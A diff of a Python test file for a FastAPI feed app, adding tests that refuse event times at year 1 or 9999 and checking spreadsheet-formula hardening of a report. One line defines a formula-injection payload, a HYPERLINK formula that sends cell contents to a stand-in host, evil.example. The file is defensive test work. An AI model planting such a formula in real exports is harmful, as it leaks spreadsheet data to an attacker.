@@ -1,6 +1,9 @@
-"""Security hardening of the feed: a name in the read report cannot run as a spreadsheet formula."""
+"""Security hardening of the feed: a name in the read report cannot run as a spreadsheet formula; event times
+at the ends of the calendar are refused, not a server error."""
 
 from fastapi.testclient import TestClient
+
+from tests.forms import submit
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Відкрити")'
 
@@ -35,3 +38,22 @@ class TestEditEvent:
         event_id = self._event(staff_client)
         response = staff_client.patch(f"/api/v1/events/{event_id}", json={"title": "   "})
         assert response.status_code == 422 and response.json()["error"] == "InvalidInput"
+
+
+class TestEventTimesAtTheEndsOfTheCalendar:
+    """Converting year 1 or 9999 with a zone to UTC overflows; such a time is a typo and gets a message."""
+
+    def test_the_api_refuses_them(self, staff_client: TestClient) -> None:
+        for starts, ends in (("0001-01-01T00:00+05:00", "2030-03-10T12:00"),
+                             ("2030-03-10T10:00", "9999-12-31T22:00-05:00")):
+            response = staff_client.post("/api/v1/posts", json={"body": "Тренінг", "kind": "event", "event": {
+                "title": "СЛР", "starts_at": starts, "ends_at": ends}})
+            assert response.status_code == 422 and "1900" in response.json()["detail"], response.text
+        assert staff_client.get("/api/v1/posts").json()["items"] == []
+
+    def test_the_page_form_comes_back_with_the_text(self, staff_page: TestClient) -> None:
+        response = submit(staff_page, "/", "/posts", {
+            "kind": "event", "body": "Запрошуємо на тренінг", "event_title": "СЛР для медсестер",
+            "event_starts_at": "9999-12-31T23:00", "event_ends_at": "9999-12-31T23:30"})
+        assert response.status_code == 422
+        assert "1900" in response.text and "Запрошуємо на тренінг" in response.text
